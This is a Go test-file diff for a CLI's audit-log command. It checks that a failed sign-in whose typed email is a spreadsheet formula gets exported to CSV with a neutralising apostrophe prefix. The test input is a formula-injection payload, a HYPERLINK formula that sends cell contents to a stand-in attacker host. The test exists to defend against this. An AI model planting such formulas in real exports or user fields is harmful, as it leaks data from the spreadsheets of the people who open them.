@@ -3,6 +3,7 @@ package cli_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"net"
 	"net/http"
@@ -14,6 +15,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/safeguard-health/safeguard/internal/audit"
 	"github.com/safeguard-health/safeguard/internal/auth"
 	"github.com/safeguard-health/safeguard/internal/cli"
 	"github.com/safeguard-health/safeguard/internal/org"
@@ -374,6 +376,23 @@ func TestAuditVerbs(t *testing.T) {
 	}
 	if code, out, _ := run(t, "audit", "log", "--db", db, "--format", "csv"); code != 0 || !strings.HasPrefix(out, "seq,at,org_id") || !strings.Contains(out, "org.create") {
 		t.Errorf("audit log csv: exit %d\n%s", code, out)
+	}
+
+	// A failed sign-in records the email typed as its actor: text anyone
+	// can choose. In the CSV export it is text a spreadsheet will not run.
+	s := storetest.SQLiteAt(t, db)
+	typed := `=HYPERLINK("http://evil.example/?"&A1,"Open")`
+	if err := s.RecordEvent(audit.WithActor(context.Background(), audit.Actor{Label: typed, Source: "203.0.113.9"}), "", "login.failed", "account:+1", nil); err != nil {
+		t.Fatal(err)
+	}
+	s.Close()
+	code, out, _ = run(t, "audit", "log", "--db", db, "--all", "--format", "csv")
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil || code != 0 || len(rows) != 6 {
+		t.Fatalf("audit log csv: exit %d, %v, %d rows\n%s", code, err, len(rows), out)
+	}
+	if got := rows[1]; got[6] != "login.failed" || got[4] != "'"+typed || got[7] != "account:+1" {
+		t.Errorf("the failed sign-in exported as actor %q, target %q", got[4], got[7])
 	}
 }
 
